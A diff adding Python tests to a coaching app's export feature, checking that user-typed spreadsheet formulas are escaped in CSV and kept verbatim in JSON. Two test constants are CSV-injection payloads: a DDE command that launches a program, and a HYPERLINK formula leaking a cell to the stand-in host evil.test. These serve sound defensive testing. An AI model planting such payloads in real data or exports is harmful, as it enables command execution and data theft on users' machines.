@@ -333,3 +333,32 @@ def test_a_refused_zip_request_still_answers_in_json(api, org, coach):
 
     assert response.status_code == 403
     assert response["Content-Type"] == "application/json"
+
+
+FORMULA_NOTE = "=cmd|' /C calc'!A0"
+FORMULA_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Squat")'
+
+
+def test_formulas_typed_by_people_are_neutralized_in_the_csv_and_kept_in_the_json(
+    api, org, owner, client_record
+):
+    give_history(client_record)
+    CheckIn.unscoped.filter(client=client_record).update(notes=FORMULA_NOTE)
+    exercise = ExerciseFactory(key="evil", name=FORMULA_NAME, organization=org)
+    SetLog.unscoped.filter(organization=org).update(exercise=exercise)
+
+    archive = open_zip(api(owner).get(export_url(org)))
+
+    assert {row["notes"] for row in csv_rows(archive, "check_ins")} == {"'" + FORMULA_NOTE}
+    assert {row["notes"] for row in json_rows(archive, "check_ins")} == {FORMULA_NOTE}
+    assert {row["exercise_name"] for row in csv_rows(archive, "set_logs")} == {"'" + FORMULA_NAME}
+    assert {row["exercise_name"] for row in json_rows(archive, "set_logs")} == {FORMULA_NAME}
+
+
+def test_negative_numbers_stay_numbers_in_the_csv(api, org, owner, client_record):
+    give_history(client_record)
+    SetLog.unscoped.filter(organization=org).update(load_kg=-20)  # an assisted movement
+
+    archive = open_zip(api(owner).get(export_url(org)))
+
+    assert {row["load_kg"] for row in csv_rows(archive, "set_logs")} == {"-20.0"}
